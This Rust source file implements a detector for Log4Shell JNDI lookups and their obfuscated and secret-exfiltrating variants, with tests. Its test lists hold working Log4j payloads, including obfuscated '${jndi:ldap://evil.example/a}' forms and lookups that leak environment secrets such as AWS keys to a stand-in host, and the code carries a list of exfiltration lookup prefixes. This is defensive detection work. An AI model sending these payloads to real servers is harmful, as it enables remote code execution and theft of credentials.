//! Log4Shell-style lookups: `${jndi:ldap://...}` and its obfuscations, evaluated the
//! way Log4j 2 substitutes nested lookups (`${lower:j}`, `${upper:n}`, `${::-d}`,
//! `${env:NOPE:-i}`, `${date:'j'}`, dotless `ı`), plus the lookups attackers use to
//! exfiltrate data (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:java.version}`, ...).
//! Work is linear: each byte is visited once, nesting is bounded.

use super::find;

/// Nesting bound of lookups.
const MAX_DEPTH: u8 = 12;
/// Bytes kept of one lookup's content.
const MAX_LOOKUP: usize = 512;
/// Lookups evaluated per value.
const MAX_LOOKUPS: usize = 128;

/// Log4j 2 lookups used to exfiltrate data in probes (they count on their own).
const EXFIL: &[&[u8]] = &[
    b"env:",
    b"sys:",
    b"java:",
    b"ctx:",
    b"main:",
    b"k8s:",
    b"docker:",
    b"spring:",
    b"log4j:",
    b"web:",
    b"bundle:",
    b"base64:",
    b"jvmrunargs:",
    b"marker:",
    b"sd:",
    b"event:",
    b"map:",
];

struct Eval {
    found: bool,
    lookups: usize,
}

impl Eval {
    /// Evaluates the lookup whose content starts at `t[i]` (after `${`); appends its
    /// value to `out`; returns the index after its `}` (or the end).
    fn lookup(&mut self, t: &[u8], mut i: usize, depth: u8, out: &mut Vec<u8>) -> usize {
        self.lookups += 1;
        let mut inner: Vec<u8> = Vec::new();
        while let Some(&b) = t.get(i) {
            if b == b'$'
                && t.get(i + 1) == Some(&b'{')
                && depth < MAX_DEPTH
                && self.lookups < MAX_LOOKUPS
            {
                i = self.lookup(t, i + 2, depth + 1, &mut inner);
                continue;
            }
            if b == b'}' {
                i += 1;
                break;
            }
            if inner.len() < MAX_LOOKUP {
                // dotless ı (U+0131) upper-cases to I
                if b == 0xC4 && t.get(i + 1) == Some(&0xB1) {
                    inner.push(b'i');
                    i += 2;
                    continue;
                }
                inner.push(b.to_ascii_lowercase());
            }
            i += 1;
        }
        let trimmed = {
            let s = inner
                .iter()
                .position(|b| !b.is_ascii_whitespace())
                .unwrap_or(inner.len());
            inner.get(s..).unwrap_or_default()
        };
        if trimmed.starts_with(b"jndi:")
            || trimmed == b"jndi"
            || EXFIL.iter().any(|pre| trimmed.starts_with(pre))
        {
            self.found = true;
        }
        let value: &[u8] = if let Some(p) = find(trimmed, b":-") {
            trimmed.get(p + 2..).unwrap_or_default()
        } else if let Some(r) = trimmed
            .strip_prefix(b"lower:")
            .or_else(|| trimmed.strip_prefix(b"upper:"))
        {
            r
        } else if let Some(r) = trimmed.strip_prefix(b"date:") {
            let r = r.strip_prefix(b"'").unwrap_or(r);
            r.strip_suffix(b"'").unwrap_or(r)
        } else {
            &[]
        };
        let room = MAX_LOOKUP.saturating_sub(out.len());
        out.extend_from_slice(value.get(..value.len().min(room)).unwrap_or_default());
        i
    }
}

/// Whether a normalised (decoded, lower-cased) value holds a JNDI lookup or a Log4j
/// exfiltration lookup.
pub fn detect(t: &[u8]) -> bool {
    let Some(first) = find(t, b"${") else {
        return false;
    };
    let mut ev = Eval {
        found: false,
        lookups: 0,
    };
    let mut i = first;
    let mut top = Vec::new();
    while i < t.len() && ev.lookups < MAX_LOOKUPS {
        match t.get(i..).and_then(|r| find(r, b"${")) {
            Some(p) => {
                let s = i + p + 2;
                // Direct lookups with a known prefix count as they are.
                let rest = t.get(s..).unwrap_or_default();
                let rest = rest
                    .get(rest.iter().take_while(|b| b.is_ascii_whitespace()).count()..)
                    .unwrap_or_default();
                if rest.starts_with(b"jndi") || EXFIL.iter().any(|pre| rest.starts_with(pre)) {
                    return true;
                }
                top.clear();
                i = ev.lookup(t, s, 1, &mut top);
                if ev.found {
                    return true;
                }
                // `${${lower:j}ndi:...}` evaluates to a key starting with `jndi`.
                if top.starts_with(b"jndi") {
                    return true;
                }
            }
            None => break,
        }
    }
    // Obfuscation primitives nested in a lookup (`${${::-j}...}`) are themselves a
    // probe even when the key does not spell jndi.
    let mut k = 0;
    while let Some(p) = t.get(k..).and_then(|r| find(r, b"${${")) {
        let s = k + p + 4;
        let rest = t.get(s..).unwrap_or_default();
        if rest.starts_with(b"lower:")
            || rest.starts_with(b"upper:")
            || rest.starts_with(b"::-")
            || find(rest.get(..rest.len().min(24)).unwrap_or_default(), b":-").is_some()
        {
            return true;
        }
        k = s;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    fn d(s: &str) -> bool {
        detect(&crate::detect::decode::normalize(s.as_bytes(), false).text)
    }

    #[test]
    fn lookups() {
        let bad = [
            "${jndi:ldap://evil.example/a}",
            "${JNDI:LDAP://evil.example/a}",
            "${jndi:rmi://evil.example:1099/x}",
            "${jndi:dns://evil.example}",
            "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}",
            "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x}",
            "${jnd${upper:ı}:ldap://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
            "\\u0024{jndi:ldap://x}",
            "x-api-version: ${jndi:ldap://x.example/a}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${jndi:ldap://${env:USER}.x.example/a}",
            "${ jndi:ldap://x}",
            "${jndi:ldap://x",
            "${${::-j}ndi:rmi://x}",
        ];
        let bad = crate::test_util::wrong(&bad, true, d);
        assert!(bad.is_empty(), "{bad:?}");
    }

    #[test]
    fn benign_near_misses() {
        let bad = [
            "use ${HOME}/bin",
            "Hello ${name}, welcome",
            "${spring.datasource.url}",
            "price ${amount} USD",
            "jndi is a java api",
            "`${a}${b}`",
            "${date:yyyy-MM-dd}",
            "${{secrets.TOKEN}}",
        ];
        let bad = crate::test_util::wrong(&bad, false, d);
        assert!(bad.is_empty(), "{bad:?}");
        let deep = "${".repeat(5000);
        // 5000 unclosed lookups: terminates (no recursion blow-up) and names nothing.
        assert!(!d(&deep));
    }
}
